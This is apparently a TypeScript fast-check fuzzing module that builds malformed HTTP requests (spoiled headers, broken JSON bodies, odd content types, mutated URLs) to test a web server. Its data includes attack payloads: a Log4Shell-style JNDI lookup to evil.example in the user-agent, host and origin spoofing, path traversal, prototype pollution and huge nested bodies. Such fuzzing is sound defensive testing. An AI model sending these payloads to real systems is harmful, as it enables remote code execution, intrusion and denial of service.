import fc from 'fast-check';
import { nastyWord } from './nasty-values.ts';

/** Who sends it: somebody with credits, a member, somebody whose sessions may end at any time, or nobody. */
export type FuzzActor = 'rich' | 'member' | 'leaver' | null;

/** One request to a server and what is known about it beforehand. */
export interface FuzzCase {
  /** What it is aimed at, for example `trpc auth.me`. */
  readonly target: string;
  readonly method: 'GET' | 'HEAD' | 'POST' | 'PUT' | 'PATCH' | 'DELETE' | 'OPTIONS';
  readonly url: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly payload: string | null;
  readonly actor: FuzzActor;
  /** How the actor proves who they are; `headers` may spoil it. */
  readonly proof: 'bearer' | 'cookie';
  /** It can be read, so that a refusal for what it says has to name the fields. */
  readonly isReadable: boolean;
  /** May open a stream, which ends only when it is cut. */
  readonly mayStream: boolean;
}

/** Sessions end here, so that it is called by somebody nobody else relies on. */
const ENDS_SESSIONS = /sign-?out|logout|revoke|delete|password/i;

/** Somebody to call `target`; nobody, in one case of five. */
export function actorFor(target: string): fc.Arbitrary<FuzzActor> {
  if (ENDS_SESSIONS.test(target)) return fc.constantFrom<FuzzActor>('leaver', 'leaver', 'leaver', null);
  return fc.constantFrom<FuzzActor>('rich', 'rich', 'member', 'member', null);
}

/** Text as it can arrive in a header. */
const headerText: fc.Arbitrary<string> = fc.oneof(
  nastyWord.map((text) =>
    // Node hands over bytes as Latin-1, without control characters, and cut at 16 KiB.
    Buffer.from(text.slice(0, 4_000), 'utf8')
      .toString('latin1')
      .replaceAll(/\p{Cc}/gu, ' '),
  ),
  fc.constant('a'.repeat(10_000)),
);

const SPECIAL_HEADERS: Readonly<Record<string, readonly string[]>> = {
  authorization: [
    '',
    'Bearer',
    'Bearer ',
    'bearer a b',
    'Basic YTpi',
    'Digest x',
    `Bearer ${'a'.repeat(43)}`,
    'Bearer ../..',
  ],
  cookie: [
    '',
    '=',
    ';;;=',
    'studio_session=',
    `studio_session=${'a'.repeat(43)}`,
    '__proto__=1; constructor=2',
    'studio_session=%ff',
  ],
  'idempotency-key': [
    '',
    ' ',
    'a b',
    '\xd0\xba',
    '\xff',
    'k'.repeat(256),
    'k'.repeat(255),
    'a,b',
    '__proto__',
    '../..',
  ],
  range: [
    'bytes=',
    'bytes=-',
    'bytes=0-0,1-1',
    'bytes=9-1',
    'bytes=-0',
    'bytes=99999999999999999999-',
    'lines=1-2',
  ],
  'accept-language': [
    '',
    '*',
    'en;q=NaN',
    'zh;q=-1',
    ';;;',
    'en-'.repeat(200),
    ','.repeat(5_000),
    'en;q=1e400,zh;q=2',
  ],
  host: [
    '',
    'evil.example',
    'localhost:99999',
    '127.0.0.1:x',
    'localhost@evil.example',
    '[::1',
    '127.0.0.1.evil.example',
    'localhost.',
  ],
  origin: ['null', 'https://evil.example', 'http://localhost.evil.example', 'http://127.0.0.1:1'],
  'sec-fetch-site': ['cross-site', 'same-site', 'none', 'same-origin, cross-site'],
  'content-encoding': ['gzip', 'br', 'x'],
  'x-forwarded-for': ['1.2.3.4', '::1', 'x, y', '__proto__'],
  'x-forwarded-host': ['evil.example'],
  'x-forwarded-proto': ['https', 'javascript'],
  'x-request-id': ['../../x', 'a'.repeat(5_000), '__proto__'],
  'x-http-method-override': ['DELETE', 'GET'],
  accept: ['text/event-stream', 'application/jsonl', 'text/html', '*/*;q=x'],
  'trpc-accept': ['application/jsonl', 'application/json', 'x'],
  'last-event-id': ['1', '__proto__', '{"a":1}'],
  'if-none-match': ['*', 'W/"x"', '"'],
  'if-range': ['x', 'Sat, 99 Jul'],
  'user-agent': ['', 'x'.repeat(8_000), '\u00ff\u00fe', '${jndi:ldap://evil.example/a}'],
  expect: ['100-continue', 'x'],
  te: ['trailers'],
  prefer: ['handling=lenient'],
};

/** One header with something in it that should not be there. */
export const spoiledHeader: fc.Arbitrary<Readonly<Record<string, string>>> = fc
  .constantFrom(...Object.keys(SPECIAL_HEADERS))
  .chain((name) =>
    fc
      .oneof(fc.constantFrom(...(SPECIAL_HEADERS[name] ?? [])), headerText)
      .map((value) => ({ [name]: value })),
  );

/** Nothing most of the time. */
export const someHeaders: fc.Arbitrary<Readonly<Record<string, string>>> = fc.oneof(
  { weight: 5, arbitrary: fc.constant({}) },
  { weight: 2, arbitrary: spoiledHeader },
);

/** Bodies that are no JSON document, or one that no client writes. */
export const brokenBody: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    ...[
      '',
      ' ',
      '{',
      '}',
      '[',
      '"',
      '{"json":',
      '{"a":1,}',
      `{'a':1}`,
      'NaN',
      'undefined',
      '\ufeff{}',
      '\0',
      '1e400',
    ],
    ...[
      'null',
      '[]',
      '0',
      '"text"',
      'true',
      '{}',
      '{"__proto__":{"a":1}}',
      '{"constructor":{"prototype":{"a":1}}}',
    ],
    ...['{"a":1}{"a":2}', '<xml/>', 'a=1&b=2', '{"account":"a","account":"b"}', '\ud800'],
  ),
  fc.constantFrom(10_000, 200_000).map((depth) => '['.repeat(depth)),
  fc.constantFrom(10_000, 200_000).map((depth) => '['.repeat(depth) + ']'.repeat(depth)),
  fc.constantFrom(10_000, 100_000).map((depth) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth)),
  fc.constant(`{"json":{"prompt":"${'x'.repeat(1_048_577)}"}}`),
  fc.constant(`[${'1e1000,'.repeat(20_000)}1]`),
  fc.constant(JSON.stringify(Object.fromEntries(Array.from({ length: 30_000 }, (_, i) => [`key${i}`, 0])))),
);

/** Content types that are not ours, or ours spelled oddly. */
export const contentType: fc.Arbitrary<string> = fc.constantFrom(
  ...[
    'text/plain',
    'multipart/form-data; boundary=x',
    'application/x-www-form-urlencoded',
    'application/jsonp',
    '',
  ],
  ...[
    'application/json; charset=utf-16',
    'application/json;;',
    'APPLICATION/JSON',
    'text/plain; application/json',
  ],
  ...[
    'application/json, text/plain',
    ' application/json',
    'application/json\t',
    'application/octet-stream',
    'x',
  ],
);

/** Harm to an address that has been put together. */
export const spoiledUrl: fc.Arbitrary<(url: string) => string> = fc.oneof(
  fc
    .constantFrom(
      '%',
      '%zz',
      '%c0%ae%c0%ae',
      '%00',
      '/..%2f..%2f',
      '%2e%2e',
      ';a=b',
      '//',
      '\\',
      '#x',
      '%u0041',
    )
    .map((harm) => (url: string) => {
      const [path = '', query] = url.split('?', 2);
      return `${path}${harm}${query === undefined ? '' : `?${query}`}`;
    }),
  fc
    .constantFrom(
      'skip=1&skip=2',
      '__proto__=1',
      '__proto__[a]=1',
      'a[]=1',
      '&&&=&',
      '%zz=1',
      'limit',
      'input=%',
      'batch=1',
    )
    .map((more) => (url: string) => `${url}${url.includes('?') ? '&' : '?'}${more}`),
  fc.constant((url: string) => url.toUpperCase()),
  fc.constant((url: string) => `${url}${url.includes('?') ? '&' : '?'}${'a&'.repeat(3_000)}`),
);
